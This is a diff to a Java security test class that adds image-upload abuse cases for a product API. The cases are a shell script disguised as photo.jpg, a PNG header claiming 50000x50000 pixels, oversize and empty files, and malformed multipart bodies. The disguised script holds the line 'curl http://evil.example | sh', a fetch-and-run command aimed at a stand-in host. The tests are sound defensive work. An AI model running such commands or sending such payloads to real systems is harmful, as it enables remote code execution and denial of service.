@@ -98,6 +98,8 @@ class HostileInputTest {
                 "paymentMethod", "pm_card_visa", Kind.ENUM));
         routes.add(new BodyRoute(checkout.method(), checkout.path(), checkout.token(), checkout.valid(), checkout.fields(),
                 Map.of("Idempotency-Key", "hostile-" + UUID.randomUUID())));
+        routes.add(route("PUT", "/api/products/" + s.productOfVendorA + "/images/order", admin,
+                ordered("imageIds", List.of(UUID.randomUUID().toString()), Kind.LIST)));
         routes.add(route("POST", "/api/analytics/events", h, ordered("events", List.of(analyticsEvent("type", "product_view")), Kind.LIST)));
         return routes;
     }
@@ -122,6 +124,10 @@ class HostileInputTest {
             check(failures, h.label(), h.send());
         }
         for (Hostile h : analyticsEventAttacks()) {
+            sent++;
+            check(failures, h.label(), h.send());
+        }
+        for (Hostile h : imageUploadAttacks()) {
             sent++;
             check(failures, h.label(), h.send());
         }
@@ -299,7 +305,11 @@ class HostileInputTest {
                 new String[] {"PUT", "/api/cart/items/{}", h}, new String[] {"DELETE", "/api/cart/items/{}", h},
                 new String[] {"GET", "/api/orders/{}", h}, new String[] {"PUT", "/api/orders/{}/status", admin},
                 new String[] {"GET", "/api/checkout/{}", h}, new String[] {"GET", "/api/payments/{}", h},
-                new String[] {"PUT", "/api/users/address/{}", h}, new String[] {"DELETE", "/api/users/address/{}", h});
+                new String[] {"PUT", "/api/users/address/{}", h}, new String[] {"DELETE", "/api/users/address/{}", h},
+                new String[] {"GET", "/api/products/{}/images", null}, new String[] {"POST", "/api/products/{}/images", admin},
+                new String[] {"DELETE", "/api/products/" + s.productOfVendorA + "/images/{}", admin},
+                new String[] {"PUT", "/api/products/" + s.productOfVendorA + "/images/{}/primary", admin},
+                new String[] {"GET", "/api/products/" + s.productOfVendorA + "/images/" + UUID.randomUUID() + "/{}", null});
         List<Hostile> out = new ArrayList<>();
         for (String[] route : idRoutes) {
             for (String id : badIds) {
@@ -423,6 +433,64 @@ class HostileInputTest {
         out.add(new Hostile("unknown method", "PATCH", "/api/cart", h, "{}".getBytes(StandardCharsets.UTF_8), List.<String[]>of(json)));
         out.add(new Hostile("TRACE", "TRACE", "/api/products", null, null, List.of()));
         return out;
+    }
+
+    /**
+     * Uploads that must be refused with nothing stored: a script named .jpg, a PNG whose header claims 50000x50000
+     * pixels, 11 MB, an empty file, a GIF, no file part, and broken multipart framing.
+     */
+    private static List<Hostile> imageUploadAttacks() {
+        String path = "/api/products/" + s.productOfVendorA + "/images";
+        String admin = s.admin.accessToken();
+        List<Hostile> out = new ArrayList<>();
+        String boundary = "hostile-boundary-42";
+        List<String[]> form = List.<String[]>of(new String[] {"Content-Type", "multipart/form-data; boundary=" + boundary});
+        java.util.function.BiFunction<String, byte[], byte[]> part = (name, content) -> {
+            java.io.ByteArrayOutputStream b = new java.io.ByteArrayOutputStream();
+            b.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + name + "\"; filename=\"photo.jpg\"\r\n"
+                    + "Content-Type: image/jpeg\r\n\r\n").getBytes(StandardCharsets.UTF_8));
+            b.writeBytes(content);
+            b.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
+            return b.toByteArray();
+        };
+        out.add(new Hostile("upload: a shell script named photo.jpg", "POST", path, admin,
+                part.apply("file", "#!/bin/sh\ncurl http://evil.example | sh\n".getBytes(StandardCharsets.UTF_8)), form));
+        out.add(new Hostile("upload: a PNG claiming 50000x50000 pixels", "POST", path, admin, part.apply("file", pngHeader(50_000, 50_000)), form));
+        out.add(new Hostile("upload: 11 MB", "POST", path, admin, part.apply("file", new byte[11 * 1024 * 1024]), form));
+        out.add(new Hostile("upload: an empty file", "POST", path, admin, part.apply("file", new byte[0]), form));
+        out.add(new Hostile("upload: a GIF", "POST", path, admin, part.apply("file", gif()), form));
+        out.add(new Hostile("upload: the image in a part not named file", "POST", path, admin, part.apply("picture", gif()), form));
+        out.add(new Hostile("upload: no boundary", "POST", path, admin, part.apply("file", gif()),
+                List.<String[]>of(new String[] {"Content-Type", "multipart/form-data"})));
+        out.add(new Hostile("upload: JSON instead of a form", "POST", path, admin, "{\"file\":\"x\"}".getBytes(StandardCharsets.UTF_8),
+                List.<String[]>of(new String[] {"Content-Type", "application/json"})));
+        out.add(new Hostile("upload: framing never closed", "POST", path, admin,
+                ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\n\u0000\u0001garbage").getBytes(StandardCharsets.UTF_8), form));
+        out.add(new Hostile("upload: a 20 KB part header", "POST", path, admin,
+                ("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + "a".repeat(20_000) + "\"\r\n\r\nx\r\n--"
+                        + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8), form));
+        out.add(new Hostile("upload: no body", "POST", path, admin, null, form));
+        return out;
+    }
+
+    /** A PNG signature and IHDR claiming the given size, and nothing after it. */
+    private static byte[] pngHeader(int width, int height) {
+        java.nio.ByteBuffer ihdr = java.nio.ByteBuffer.allocate(17).put("IHDR".getBytes(StandardCharsets.US_ASCII))
+                .putInt(width).putInt(height).put(new byte[] {8, 2, 0, 0, 0});
+        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
+        crc.update(ihdr.array());
+        return java.nio.ByteBuffer.allocate(8 + 4 + 17 + 4).put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'})
+                .putInt(13).put(ihdr.array()).putInt((int) crc.getValue()).array();
+    }
+
+    private static byte[] gif() {
+        try {
+            java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
+            javax.imageio.ImageIO.write(new java.awt.image.BufferedImage(8, 8, java.awt.image.BufferedImage.TYPE_INT_RGB), "gif", out);
+            return out.toByteArray();
+        } catch (java.io.IOException e) {
+            throw new IllegalStateException(e);
+        }
     }
 
     private static BodyRoute route(String method, String path, String token, Map<String, Object[]> fields) {
